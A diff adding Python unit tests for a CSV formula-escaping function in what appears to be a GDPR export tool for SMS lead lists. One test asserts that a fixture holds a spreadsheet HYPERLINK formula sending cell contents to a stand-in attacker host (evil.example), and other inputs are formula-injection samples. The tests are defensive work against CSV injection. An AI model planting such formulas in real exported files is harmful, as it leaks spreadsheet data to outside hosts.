@@ -3,8 +3,14 @@ import io
 import json
 import zipfile
 from datetime import datetime
+from pathlib import Path
 
-from sms_gdpr_compliance.export import build_export_zip, rows_to_csv
+import pytest
+
+from sms_gdpr_compliance.export import build_export_zip, escape_csv_formula, rows_to_csv
+from sms_gdpr_compliance.lists import read_lead_list
+
+FORMULAS = Path(__file__).parent / "data" / "formulas.csv"
 
 
 def test_zip_holds_json_and_csv():
@@ -34,3 +40,34 @@ def test_csv_header_is_union_of_keys():
 
 def test_csv_of_no_rows():
     assert rows_to_csv([]) == "\n"
+
+
+@pytest.mark.parametrize(
+    "value, expected",
+    [
+        ("=1+1", "'=1+1"),
+        ("+33612345601", "'+33612345601"),
+        ("-2+3", "'-2+3"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=cmd", "'\t=cmd"),
+        ("\r=cmd", "'\r=cmd"),
+        ("Claire Martin", "Claire Martin"),
+        ("a=1", "a=1"),
+        (" =1+1", " =1+1"),
+        (12, "12"),
+        (None, ""),
+        (False, ""),
+    ],
+)
+def test_escape_csv_formula(value, expected):
+    assert escape_csv_formula(value) == expected
+
+
+def test_formula_cells_of_list_escaped():
+    rows = read_lead_list(FORMULAS.read_bytes(), "formulas.csv", "FR").rows
+    cells = [cell for row in rows for cell in (row.company, row.contact_name, row.source_detail, row.number_cell)]
+    assert '=HYPERLINK("http://evil.example/?"&A1,"x")' in cells, cells
+    for cell in cells:
+        escaped = escape_csv_formula(cell)
+        assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r")), escaped
+        assert escaped.removeprefix("'") == cell
